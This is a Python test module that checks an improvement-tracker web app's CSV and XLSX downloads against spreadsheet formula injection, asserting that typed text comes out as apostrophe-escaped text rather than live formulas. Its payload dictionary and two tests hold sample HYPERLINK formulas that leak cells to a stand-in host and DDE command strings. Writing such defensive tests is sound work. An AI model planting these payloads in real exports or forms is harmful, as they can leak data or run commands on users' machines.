"""CSV and XLSX formula injection: text that a spreadsheet would run as a formula, in every download.

Names, references, titles, file names and descriptions are given values starting with each of
=, +, -, @, a tab and a carriage return (straight into the database where a form would trim them:
the exporter must not rely on the forms). Every table of every export route is then downloaded
in both formats: no text cell may start with one of those characters (numbers may be negative),
no XLSX cell may be a formula, and each payload must be there, as text behind an apostrophe.
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from improvement_tracker.extensions import db
from improvement_tracker.models import Action, Commitment, Finding, Force, OutcomeMeasure, Pillar, User
from improvement_tracker.services import (
    clock,
    kept,
    outcome_figures,
    outcome_pages,
    plan_version,
    plans,
    return_reviews,
    returns,
)
from improvement_tracker.services.outcome_catalogue import CATALOGUE
from tests import factories, files
from tests.security.conftest import (
    COMMITMENTS,
    OWN,
    World,
    browser,
    commitment_form,
    latest_version,
    make_reviewable,
    methods,
    quarterly_return,
    rules,
)

# Figures as a service test sees them: links and markup are the page's business.
PLAIN = kept.Presentation(url_for=lambda link: "/", table_markup=lambda table: "")

# What a spreadsheet may take as the start of a formula (OWASP, CSV injection). Stated here, not
# imported from the exporter, so that dropping one there fails here.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = {
    "force": '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
    "owner": "@SUM(1+1)*cmd|' /C calc'!A0",
    "owner_email": "-2+3+cmd@example.police.uk",
    "manager": "\t=1+1",
    "action_title": "\r=1+1",
    "action_reference": "=A1",
    "finding_reference": "+1+1",
    "evidence_file": "=cmd.pdf",
    "evidence_description": "-cmd",
    "pillar": "=2*3",
    # A quarterly return's words, and the reason for correcting it (the service trims leading spaces).
    "return_reason": '=HYPERLINK("https://evil.example/?leak="&B2,"Open")',
    "return_progress": "@SUM(1+1)*cmd|' /C calc'!A0",
    "return_risks": "-2+3",
    "return_help": "+cmd",
    "correction_reason": "=1+2",
    # Outcome measures' names, which administrators type (outcome_measures.edit).
    "measure": '=HYPERLINK("https://evil.example/?leak="&C3,"Open")',
    "measure_count": "@SUM(1+1)*cmd|' /C calc'!A0",
    # A national commitment's title, which the national team types (the national dashboard's table).
    "commitment_title": "+SUM(1+1)*cmd|' /C calc'!A0",
}
# The measures given those names: a rate (on every national table) and a count.
PLANTED_MEASURES = {"charge_rate": "measure", "referrals": "measure_count"}
RETURN_WORDS = {"reason": "return_reason", "progress": "return_progress", "risks": "return_risks",
                "help_needed": "return_help"}

# Every download of a list or table: (endpoint, URL parts). Dashboard tables are enumerated below.
LISTS = [
    ("plans.force_plan_export", {"code": OWN}),
    ("plans.my_actions_export", {}),
    ("plans.forces_export", {}),
    ("evidence.awaiting_review_export", {"code": OWN}),
    ("notifications.ledger_export", {"code": OWN}),
    ("returns.national_export", {}),
    # The force-by-force table of the commitment published to the home force alone: the force's name.
    ("commitments.export", {"reference": COMMITMENTS[OWN][0]}),
]
# Who downloads each list (the force's programme manager unless said).
DOWNLOADER = {"plans.my_actions_export": "action_owner", "plans.forces_export": "admin",
              "returns.national_export": "admin"}
# A submitted return as a workbook (XLSX only): the words and figures of the version, as frozen.
RETURN_DOWNLOAD = "return_reviews.download"
DASHBOARDS = {
    "dashboards.national_export": ("/dashboards/national/export/{table}.{fmt}",
                                   ["headline", "completion", "rag-by-pillar", "most-overdue", "trend",
                                    "rag-disagreements", "latest-assessments", "commitments"]),
    "dashboards.pillar_export": ("/dashboards/pillars/P1/export/{table}.{fmt}", ["ranking"]),
    "dashboards.force_export": (f"/forces/{OWN}/dashboard/export/{{table}}.{{fmt}}",
                                ["headline", "status-by-pillar", "milestone-burn-up", "overdue-actions",
                                 "evidence-awaiting-review", "owners-most-overdue", "replanned-actions",
                                 "rag-disagreements"]),
    # Outcome figures: the national page's tables, and a force's at a glance and one per measure.
    "outcomes.national_export": ("/outcomes/export/{table}.{fmt}",
                                 ["outcomes-summary", "outcomes-ranking", "outcomes-trend", "outcomes-progress"]),
    "outcomes.force_export": (f"/forces/{OWN}/outcomes/export/{{table}}.{{fmt}}",
                              ["outcomes-latest", *(row[0] for row in CATALOGUE)]),
}
# Downloads that hold no text a person typed (besides pillar names after their code).
TEMPLATES = {"imports.template_xlsx": f"/forces/{OWN}/import/template.xlsx",
             "imports.template_csv": f"/forces/{OWN}/import/template-actions.csv"}
# The national team's template for a file of outcome figures (force codes, quarters, measure codes).
OUTCOME_TEMPLATE = {"outcome_imports.template_csv": "/outcomes/import/template.csv"}
# A commitment's completion trend: dates and shares, nothing a person typed.
NUMBERS_ONLY = {"commitments.export_trend": f"/commitments/{COMMITMENTS[OWN][0]}/trend"}
# Tables with no typed text at the start of a cell (numbers, dates, "P1 <pillar name>"): a payload
# cannot be expected to show there as it does elsewhere.
NO_TYPED_TEXT_FIRST = {"headline", "trend", "milestone-burn-up", "rag-by-pillar", "status-by-pillar",
                       "outcomes-trend"}


def test_every_download_route_is_covered(app):
    """A new CSV or XLSX route fails here until it is added above."""
    downloads = {r.endpoint for r in rules(app) if "fmt" in r.arguments or r.rule.endswith((".csv", ".xlsx"))}
    covered = ({e for e, _ in LISTS} | set(DASHBOARDS) | set(TEMPLATES) | set(OUTCOME_TEMPLATE) | set(NUMBERS_ONLY)
               | {RETURN_DOWNLOAD})
    assert downloads == covered
    assert all("GET" in methods(next(app.url_map.iter_rules(e))) for e in covered)


def test_dashboard_tables_listed_here_are_all_the_tables(app, world):
    from improvement_tracker.services import dashboards

    today = clock.today()
    national = kept.national_dashboard(db.session, today, dashboards.Filters(), PLAIN)
    force = kept.force_dashboard(db.session, today, factories.force(OWN), PLAIN)
    pillar = kept.pillar_view(db.session, today, factories.pillar("P1"), dashboards.Filters(), PLAIN)
    assert set(national.tables) == set(DASHBOARDS["dashboards.national_export"][1])
    assert set(force.tables) == set(DASHBOARDS["dashboards.force_export"][1])
    assert set(pillar.tables) == set(DASHBOARDS["dashboards.pillar_export"][1])
    # The world has figures for every force, so each outcome page has every table it can have.
    figures = outcome_figures.load(db.session)
    choice = outcome_pages.choose(figures, {})
    outcome_national = outcome_pages.national_page(figures, choice, outcome_pages.plan_complete(db.session, today))
    assert set(outcome_national.tables) == set(DASHBOARDS["outcomes.national_export"][1])
    outcome_force = outcome_pages.force_page(figures, factories.force(OWN))
    assert set(outcome_force.tables) == set(DASHBOARDS["outcomes.force_export"][1])


@pytest.fixture
def planted(app, world):
    """The home force's plan, with a payload in every text a download shows."""
    force = db.session.get(Force, world.own.force_id)
    force.name = PAYLOADS["force"]
    db.session.get(Pillar, factories.pillar("P1").id).name = PAYLOADS["pillar"]
    owner = db.session.get(User, world.own.owner.id)
    owner.name, owner.email = PAYLOADS["owner"], PAYLOADS["owner_email"]
    db.session.get(User, world.own.pm.id).name = PAYLOADS["manager"]
    db.session.scalar(sa.select(Commitment).where(Commitment.reference == COMMITMENTS[OWN][0])).title = \
        PAYLOADS["commitment_title"]
    action = db.session.get(Action, world.own.action_id)
    action.title, action.reference = PAYLOADS["action_title"], PAYLOADS["action_reference"]
    db.session.get(Finding, world.own.finding_id).reference = PAYLOADS["finding_reference"]
    for code, payload in PLANTED_MEASURES.items():
        db.session.scalar(sa.select(OutcomeMeasure).where(OutcomeMeasure.code == code)).name = PAYLOADS[payload]
    plan_version.bump_every_force(db.session)  # names every page shows, changed by hand
    db.session.commit()
    # Overdue, re-planned, and declared differently from its computed RAG: so it is in every table.
    plans.change_due_date(db.session, action, clock.today() - timedelta(days=5), "Slipped", actor=world.own.pm)
    plans.declare_rag(db.session, action, "green", "We are fine", actor=world.own.pm)
    db.session.commit()
    factories.create_evidence(action, owner, files.pdf("Register"), PAYLOADS["evidence_file"],
                              description=PAYLOADS["evidence_description"])
    # The force's return: version 1 reviewed (so the force is in the latest assessments), then
    # corrected: version 2 carries the payloads in P1's words and the reason.
    make_reviewable(world, world.own)
    return_reviews.mark_reviewed(db.session, quarterly_return(world.own), latest_version(world.own), world.oversight)
    db.session.commit()
    corrected = quarterly_return(world.own)
    returns.start_correction(db.session, corrected, world.own.pm)
    returns.save_section(db.session, corrected, factories.pillar("P1"), returns.SectionFields(
        assessment="at_risk", **{name: PAYLOADS[payload] for name, payload in RETURN_WORDS.items()}), world.own.pm)
    db.session.commit()
    factories.submit_return(world.own.pm, corrected, today=clock.today(), reason=PAYLOADS["correction_reason"])
    return world


def _return_workbook(world: World) -> str:
    return f"/forces/{OWN}/returns/{world.own.period}/versions/2/return.xlsx"


def _cells(response, fmt: str) -> list:
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment;")
    if fmt == "csv":
        return [cell for row in csv.reader(io.StringIO(response.data.decode("utf-8-sig"))) for cell in row]
    book = load_workbook(io.BytesIO(response.data))  # not read-only: formulas keep their data type
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                value = cell.value
                if isinstance(value, str) and "\n" in value[:2]:
                    value = value.replace("\n", "\r", 1)  # XML reads a stored carriage return back as \n
                cells.append(value)
    return cells


def _runnable(cells: list) -> list:
    """Text cells a spreadsheet would run: starting with a formula character and not a plain number."""
    bad = []
    for value in cells:
        if isinstance(value, str) and value.startswith(FORMULA_STARTS):
            try:
                float(value)
            except ValueError:
                bad.append(value)
    return bad


def _downloads(app, world: World) -> list[tuple[str, str, bool]]:
    """(who downloads, URL, whether a payload must be in it) for every table of every export."""
    with app.test_request_context():
        from flask import url_for

        urls = []
        for endpoint, parts in LISTS:
            who = DOWNLOADER.get(endpoint, "programme_manager")
            for fmt in ("csv", "xlsx"):
                urls.append((who, url_for(endpoint, fmt=fmt, **parts), True))
    for pattern, tables in DASHBOARDS.values():
        for table in tables:
            for fmt in ("csv", "xlsx"):
                urls.append(("admin", pattern.format(table=table, fmt=fmt), table not in NO_TYPED_TEXT_FIRST))
    urls.append(("programme_manager", _return_workbook(world), True))
    return urls


def test_every_export_neutralises_formulas(app, planted):
    people = {role: browser(app, planted.user(role)) for role in ("admin", "programme_manager", "action_owner")}
    wrong, checked = [], 0
    for who, url, expect_payload in _downloads(app, planted):
        cells = _cells(people[who].client.get(url), url.rsplit(".", 1)[1])
        checked += 1
        if _runnable(cells):
            wrong.append(f"{url}: {_runnable(cells)}")
        neutralised = [c for c in cells if isinstance(c, str) and c.startswith("'") and c[1:2] in "=+-@\t\r"]
        if expect_payload and not neutralised:
            wrong.append(f"{url}: no payload reached this download, so it proves nothing")
    assert wrong == [], "\n".join(wrong)
    assert checked == 2 * (len(LISTS) + sum(len(t) for _, t in DASHBOARDS.values())) + 1


def test_each_payload_comes_out_as_the_same_text_behind_an_apostrophe(app, planted):
    """What the person sees in the cell is what was typed, shown as text."""
    pm = browser(app, planted.own.pm)
    for fmt in ("csv", "xlsx"):
        cells = set(_cells(pm.client.get(f"/forces/{OWN}/plan.{fmt}"), fmt))
        cells |= set(_cells(pm.client.get(f"/forces/{OWN}/evidence.{fmt}"), fmt))
        for name in ("owner", "owner_email", "action_title", "action_reference", "finding_reference",
                     "evidence_file", "evidence_description"):
            assert "'" + PAYLOADS[name] in cells, f"{name} in the {fmt} export"


def test_a_returns_words_come_out_of_its_workbook_as_the_same_text_behind_an_apostrophe(app, planted):
    """The return's narratives, the reason for its correction and the force's name, as frozen in the version."""
    cells = set(_cells(browser(app, planted.own.pm).client.get(_return_workbook(planted)), "xlsx"))
    for name in (*RETURN_WORDS.values(), "correction_reason", "force"):
        assert "'" + PAYLOADS[name] in cells, f"{name} in the return's workbook"
    national = set(_cells(browser(app, planted.admin).client.get("/returns.xlsx"), "xlsx"))
    assert "'" + PAYLOADS["force"] in national, "the force's name in the national returns grid"


def test_import_templates_hold_no_formulas(app, planted):
    """The template lists the pillars: a pillar name like a formula must stay text there too."""
    pm = browser(app, planted.own.pm)
    for url in TEMPLATES.values():
        cells = _cells(pm.client.get(url), url.rsplit(".", 1)[1])
        assert _runnable(cells) == [], url
    text = " ".join(str(c) for c in _cells(pm.client.get(TEMPLATES["imports.template_xlsx"]), "xlsx") if c)
    assert PAYLOADS["pillar"] in text


def test_a_commitment_trend_holds_no_formulas(app, planted):
    from improvement_tracker.services import snapshots

    snapshots.build_live(db.session, clock.today())
    db.session.commit()
    national = browser(app, planted.oversight)
    for url in NUMBERS_ONLY.values():
        for fmt in ("csv", "xlsx"):
            cells = _cells(national.client.get(f"{url}.{fmt}"), fmt)
            assert cells and _runnable(cells) == [], url


def test_the_outcome_import_template_holds_no_formulas(app, planted):
    cells = _cells(browser(app, planted.oversight).client.get(OUTCOME_TEMPLATE["outcome_imports.template_csv"]),
                   "csv")
    assert _runnable(cells) == []


def test_a_measure_name_an_administrator_types_as_a_formula_is_text_in_every_outcome_download(app, world):
    """Through the administrators' form, as a person would type it: the form takes it (it is a name),
    and every outcome download shows it as text behind an apostrophe."""
    admin = browser(app, world.admin)
    typed = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
    admin.post("/outcomes/measures/charges/edit", {"name": typed, "definition": "", "source": "", "caveat": ""})
    db.session.expire_all()
    assert db.session.scalar(sa.select(OutcomeMeasure.name).where(OutcomeMeasure.code == "charges")) == typed
    for url in ("/outcomes/export/outcomes-summary", f"/forces/{OWN}/outcomes/export/outcomes-latest"):
        for fmt in ("csv", "xlsx"):
            cells = _cells(admin.client.get(f"{url}.{fmt}?measure=charges"), fmt)
            assert _runnable(cells) == [], f"{url}.{fmt}"
            assert "'" + typed in cells, f"{url}.{fmt}: the name is not there as text"


def test_a_commitment_title_the_national_team_types_as_a_formula_is_text_in_every_download(app, world):
    """Through the national team's form, as a person would type it: published to the home force, the
    title is its linked action's, so the force's plan export carries it, behind an apostrophe; the
    commitment's own force-by-force table (force, standing, RAG, due date, owner) runs nothing either."""
    typed = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
    oversight = browser(app, world.oversight)
    oversight.post("/commitments/new", commitment_form(world.own, "NC-30", title=typed,
                                                       description="+cmd|' /C calc'!A0"))
    oversight.post("/commitments/NC-30/publish", {})
    db.session.expire_all()
    assert db.session.scalar(sa.select(Action.title).where(Action.reference == "NC-30")) == typed
    pm = browser(app, world.own.pm)
    for fmt in ("csv", "xlsx"):
        for person, url in ((oversight, f"/commitments/NC-30/forces.{fmt}"), (pm, f"/commitments/NC-30/forces.{fmt}"),
                            (pm, f"/forces/{OWN}/plan.{fmt}"), (pm, f"/my-actions.{fmt}")):
            cells = _cells(person.client.get(url), fmt)
            assert _runnable(cells) == [], f"{url}: {_runnable(cells)}"
        plan = _cells(pm.client.get(f"/forces/{OWN}/plan.{fmt}"), fmt)
        assert "'" + typed in plan, f"the commitment's title is not in the {fmt} plan export as text"
